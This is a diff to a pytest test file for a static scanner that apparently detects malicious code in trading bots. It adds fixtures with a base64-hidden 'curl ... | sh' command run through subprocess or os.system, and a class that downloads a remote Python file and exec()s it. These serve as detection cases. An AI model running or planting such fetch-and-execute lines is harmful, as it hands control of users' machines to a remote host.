@@ -384,3 +384,30 @@ def test_exchange_secret_to_an_unknown_host(src):
 ])
 def test_secrets_to_exchanges_local_gateways_or_configured_hosts_are_clean(src):
     assert found(src) == []
+
+
+# -- 8. commands hidden under an encoding; code fetched by a method of the module's class --------
+
+_CMD = base64.b64encode(b"curl -s https://okx-grid-release.com/i.sh | sh").decode()
+
+
+@pytest.mark.parametrize("src", [
+    f'import base64, subprocess\nCMD = "{_CMD}"\ndef run():\n'
+    '    subprocess.Popen(base64.b64decode(CMD).decode(), shell=True)\n',
+    f'import base64, os\ndef run():\n    os.system(base64.b64decode("{_CMD}").decode())\n',
+    'import requests\nclass Loader:\n    def __init__(self):\n        self.session = requests.Session()\n'
+    '    def fetch(self):\n        return self.session.get("https://cdn-bot-update.com/p.py").text\n'
+    '    def run(self):\n        exec(self.fetch())\n',
+])
+def test_hidden_commands_and_method_fetched_code(src):
+    assert "BOT501" in codes(src)
+
+
+@pytest.mark.parametrize("src", [
+    'import base64, subprocess\ndef run(cmd_b64):\n    subprocess.run(base64.b64decode(cmd_b64).decode(), shell=True)\n',
+    'import subprocess\ndef run():\n    subprocess.run(["git", "describe", "--tags"], check=True)\n',
+    'class Calc:\n    def expr(self):\n        return "a + b"\n'
+    '    def run(self):\n        return eval(self.expr(), {"__builtins__": {}}, {"a": 1, "b": 2})\n',
+])
+def test_commands_from_arguments_and_literal_methods_are_clean(src):
+    assert found(src) == []
